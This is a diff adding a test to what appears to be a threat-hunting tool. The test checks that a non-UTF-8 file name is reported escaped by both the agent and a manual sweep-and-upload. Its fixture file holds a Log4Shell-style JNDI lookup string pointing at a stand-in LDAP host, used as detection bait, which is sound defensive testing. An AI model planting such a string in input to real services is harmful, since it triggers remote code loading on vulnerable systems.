@@ -183,3 +183,40 @@ test('without the agent: hunt rules, ungcuu sweep --json, hunt upload', T, async
   assert.equal(h.runs.length, 1);
   assert.equal(h.runs[0].via, 'upload');
 });
+
+// Issue 13 item 4: a file name that is not UTF-8 is sent escaped (\xNN) with
+// "path_escaped": true, by the agent and by a sweep's --json for an upload;
+// the server takes it, and the sighting's path still names the file.
+test('a file name that is not UTF-8 reaches the hunt escaped, by the agent and by an upload', T, async () => {
+  const odd = join(dir, 'odd');
+  mkdirSync(odd, { recursive: true });
+  const name = Buffer.concat([Buffer.from(`${odd}/Expl-`), Buffer.from([0xff]), Buffer.from('.java')]);
+  writeFileSync(name, 'class E { String s = "${jndi:ldap://x.example.com:1389/E}"; }\n');
+  const want = `${odd}/Expl-\\xff.java`;
+  const hunt = (await coord.post('/api/v1/hunts', {
+    title: 'Săn tên tệp lạ', deadline: new Date(Date.now() + 86400_000).toISOString(),
+    target_org_codes: ['pq-tamthanh', 'pq-longhai'], kinds: ['yara'],
+  })).body;
+  // the agent enrolled above (pq-tamthanh)
+  const r = ungcuu(['agent', 'hunt', '--state', join(dir, 'agent'), '--json', odd]);
+  assert.equal(r.status, 0, r.stderr);
+  const [res] = JSON.parse(r.stdout);
+  assert.ok(res.hits >= 1, r.stdout);
+  // the manual way, for Long Hải
+  const env = { UNGCUU_URL: srv.url, UNGCUU_TOKEN: tokenFor(srv, 'dieuphoi') };
+  const rulesFile = join(dir, 'odd-rules.json');
+  assert.equal(ungcuu(['hunt', 'rules', hunt.id, '--out', rulesFile], env).status, 0);
+  const sweep = ungcuu(['sweep', '--json', '--rules', rulesFile, odd]);
+  assert.equal(sweep.status, 1, sweep.stderr);
+  const line = JSON.parse(sweep.stdout.split('\n')[0]);
+  assert.equal(line.path, want);
+  assert.equal(line.path_escaped, true);
+  const hitsFile = join(dir, 'odd-hits.jsonl');
+  writeFileSync(hitsFile, sweep.stdout);
+  const up = ungcuu(['hunt', 'upload', hunt.id, hitsFile, '--hostname', 'pc-longhai-02', '--org', 'pq-longhai', '--json'], env);
+  assert.equal(up.status, 0, up.stderr);
+  const h = (await coord.get(`/api/v1/hunts/${hunt.id}`)).body;
+  const paths = h.sightings.map((s) => s.path);
+  assert.ok(paths.length >= 2, JSON.stringify(paths));
+  assert.deepEqual([...new Set(paths)], [want], 'every sighting names the file');
+});
